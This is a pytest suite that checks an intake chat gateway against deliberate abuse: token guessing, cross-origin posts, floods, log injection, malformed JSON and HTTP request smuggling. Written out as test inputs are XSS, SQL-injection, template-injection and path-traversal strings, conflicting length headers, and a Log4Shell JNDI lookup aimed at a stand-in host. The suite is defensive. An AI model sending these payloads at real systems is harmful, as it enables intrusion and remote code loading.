"""What is done to a web chat on purpose: cases C1 to C18 of the reference, one named test each.

C12 needs a server that really listens, C16 the whole running system (``tests/widget``).
"""

from __future__ import annotations

import json
import logging
import socket
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from gateway_bench import PUBLIC_URL, answer, app_of, gateway_settings, messages
from sqlalchemy import func, select
from test_gateway_chat import bearer, begin, read, say

from intake.store.connection import Store
from intake.store.models import Concern, Conversation, Message

SITE = "https://www.agency.example"


def _outbox(store: Store) -> int:
    """Texts that are to leave for a phone."""
    with store.reading() as session:
        return session.scalar(select(func.count()).where(Message.direction == "outbound", Message.state == "queued")) or 0


def test_c01_a_guessed_or_visible_id_opens_nothing(client: TestClient, store: Store) -> None:
    begun = begin(client)
    say(client, begun["token"], "hello")
    with store.reading() as session:
        internal = str(session.scalars(select(Conversation.id)).one())
    answers = {client.get("/chat/messages", headers=bearer(guess)).content
               for guess in ("1", begun["conversation"], internal, begun["token"][:-1], begun["token"] + "A")}
    assert answers == {client.get("/chat/messages").content}, "absent, foreign and wrong look alike"
    assert client.get("/chat/1").status_code == 404


def test_c02_the_secret_of_one_chat_with_the_cookie_of_another_opens_nothing(client: TestClient) -> None:
    mine, other = begin(client)["token"], begin(client)["token"]
    answered = client.get("/chat/messages", headers={**bearer(mine), "Cookie": f"__Host-growline={other}"})
    assert answered.status_code == 404
    counted = client.app.state.edge.metrics.refused.labels("two_sessions")._value.get()  # type: ignore[attr-defined]
    assert counted == 1


def test_c03_who_speaks_comes_from_the_session_and_not_from_the_body(client: TestClient, store: Store) -> None:
    mine, other = begin(client), begin(client)
    body = {"client_msg_id": "a", "text": "mine", "sender": "staff", "from": "bot", "conversation_id": other["conversation"],
            "conversation": other["conversation"]}
    assert client.post("/chat/messages", json=body, headers=bearer(mine["token"])).status_code == 202
    assert [message["from"] for message in read(client, mine["token"])] == ["you"]
    assert read(client, other["token"]) == []


@pytest.mark.parametrize("origin", ["https://evil.example", "null"])
def test_c04_another_sites_page_is_refused(client: TestClient, origin: str, store: Store) -> None:
    token = begin(client)["token"]
    headers = {"Origin": origin, **bearer(token)}
    assert client.post("/chat/messages", json={"client_msg_id": "a", "text": "x"}, headers=headers).status_code == 403
    assert client.post("/chat/form", data={"text": "x"}, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert [message.text for message in messages(store) if message.text] == []


def test_c04_no_route_of_the_chats_interface_is_forgotten(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    asked = [(method, path) for path, methods in paths.items() for method, route in methods.items()
             if path.startswith("/chat/") and "HTTPBearer" in str(route.get("security"))]
    assert len(asked) >= 8
    for method, path in asked:
        answered = client.request(method, path.replace("{item}", "worry"), headers={"Origin": "https://evil.example"})
        assert answered.status_code == 403, (method, path)


def test_c05_a_flood_is_capped_and_the_sms_path_is_not_touched(client: TestClient, store: Store) -> None:
    token = begin(client)["token"]
    statuses = [say(client, token, "x", id=f"m{number}").status_code for number in range(15)]
    assert 429 in statuses and statuses[:5] == [202] * 5
    huge = client.post("/chat/messages", content=b"x" * 100_000, headers={"Content-Type": "application/json", **bearer(token)})
    assert huge.status_code == 413
    assert client.get("/health/ready").status_code == 200


def test_c06_the_same_id_is_the_same_message_and_another_text_under_it_is_refused(client: TestClient) -> None:
    token = begin(client)["token"]
    first, again = say(client, token, "hello", id="a"), say(client, token, "hello", id="a")
    assert first.json() == again.json()
    assert say(client, token, "something else", id="a").status_code == 409


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
                                  "[click](http://evil.example)", "http://evil.example"])
def test_c07_text_is_text_everywhere(client: TestClient, store: Store, text: str) -> None:
    token = begin(client)["token"]
    say(client, token, text)
    assert read(client, token)[0]["text"] == text
    page = client.get("/chat", headers={"Cookie": f"__Host-growline={token}"}).text
    assert text.replace("<", "&lt;").replace(">", "&gt;") in page and f'href="{text}' not in page
    for danger in ("<script>alert", "<img src=x", 'href="http://evil', 'href="javascript:'):
        assert danger not in page


@pytest.mark.parametrize("text", ["'; DROP TABLE message--", "100% _sure_ \\", "x' OR '1'='1"])
def test_c08_the_marks_of_a_database_are_stored_as_they_are(client: TestClient, store: Store, text: str) -> None:
    token = begin(client)["token"]
    say(client, token, text)
    assert read(client, token)[0]["text"] == text and len(messages(store)) == 2


@pytest.mark.parametrize("text", ["{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%x", "{phone}", "{0.__class__}"])
def test_c09_templates_and_formats_are_never_interpreted(client: TestClient, store: Store, text: str) -> None:
    token = begin(client)["token"]
    say(client, token, text)
    with store.transaction() as session:
        conversation = session.scalars(select(Conversation)).one()
        session.add(Concern(conversation_id=conversation.id, words=text, message_id=messages(store)[-1].id))
    link = client.post("/chat/links", json={"purpose": "visit"}, headers=bearer(token)).json()["path"]
    assert text in client.post(link).text
    assert read(client, token)[0]["text"] == text


def test_c10_nothing_a_family_writes_reaches_the_log(client: TestClient, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    token = begin(client)["token"]
    say(client, token, "hello\r\n2026-01-01 ERROR all is lost")
    client.get("/chat/%0d%0aINJECTED", headers={"User-Agent": "x\tINJECTED"})
    ours = "\n".join(record.getMessage() for record in caplog.records if record.name.startswith(("growline", "gateway")))
    assert "all is lost" not in ours and "INJECTED" not in ours and token not in caplog.text


@pytest.mark.parametrize("body", [b'{"client_msg_id":"a","client_msg_id":"b","text":"x"}', b"[" * 10_000, b'{"text": NaN}',
                                  b'{"client_msg_id":"a","text":1e999}', b"{", b'\xff\xfe'])
def test_c11_json_with_two_meanings_or_none_is_refused(client: TestClient, store: Store, body: bytes) -> None:
    token = begin(client)["token"]
    headers = {"Content-Type": "application/json", **bearer(token)}
    assert client.post("/chat/messages", content=body, headers=headers).status_code in (400, 422)
    assert len(messages(store)) == 1


@pytest.mark.parametrize("lie", [b"Content-Length: 5\r\nContent-Length: 50", b"Content-Length: -1", b"Content-Length: x",
                                 b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\nTransfer-Encoding: identity"])
def test_c12_a_body_whose_length_is_a_lie_is_refused(served: str, store: Store, lie: bytes) -> None:
    address = urlsplit(served)
    with socket.create_connection((address.hostname or "", address.port or 0), timeout=5) as line:
        line.sendall(b"POST /chat/sessions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" + lie + b"\r\n\r\n{}{}")
        said = line.recv(1000)
    assert said == b"" or b" 400 " in said.split(b"\r\n")[0] or b" 422 " in said.split(b"\r\n")[0]
    assert messages(store) == []


def test_c13_a_robot_cannot_begin_chats_without_end(database_url: str, keys: tuple[str, str], store: Store) -> None:
    app = app_of(gateway_settings(database_url, keys, GROWLINE_CHAT_SESSIONS_PER_HOUR=5))
    with TestClient(app, base_url=PUBLIC_URL) as client:
        statuses = [client.post("/chat/sessions").status_code for _ in range(8)]
    assert statuses == [201] * 5 + [429] * 3


def test_c14_a_phone_number_typed_into_the_chat_gets_no_text(client: TestClient, store: Store) -> None:
    token = begin(client)["token"]
    say(client, token, "my phone is 860 555 0142, text me")
    answer(store, "Thank you.")
    assert _outbox(store) == 0


def test_c15_the_next_person_at_a_shared_computer_finds_nothing(client: TestClient) -> None:
    token = begin(client, shared=True)["token"]
    say(client, token, "he does not talk")
    for path in ("/chat/messages", "/chat/answers", "/chat"):
        assert client.get(path, headers=bearer(token)).headers["cache-control"] == "no-store"
    client.delete("/chat/sessions", headers=bearer(token))
    assert client.get("/chat/messages", headers=bearer(token)).status_code == 404


@pytest.mark.parametrize("language", ["../../etc/passwd", "xx-XX;q=9,*", "es" * 1000, "\x00", "en\r\nX: y"])
def test_c17_a_language_that_is_none_is_english(client: TestClient, language: str) -> None:
    page = client.get("/chat", params={"lang": language}, headers={"Accept-Language": "q=;;,,"})
    assert page.status_code == 200 and '<html lang="en">' in page.text
    assert client.post("/chat/sessions", json={"language": language}).status_code == 422


def test_c18_a_page_from_before_a_deploy_still_works_and_the_servers_order_counts(client: TestClient, store: Store) -> None:
    begun = client.post("/chat/sessions", content=json.dumps({"language": "en"}), headers={"Content-Type": "application/json"})
    token = begun.json()["token"]
    first = say(client, token, "one", id="clock-2031").json()["seq"]
    second = say(client, token, "two", id="clock-1999").json()["seq"]
    assert first < second and [m["seq"] for m in read(client, token)] == [first, second]
    assert read(client, token, after=2**40) == []
    assert client.get("/chat/static/chat.js").status_code == 404, "an old script is gone; the page it came with says try again"
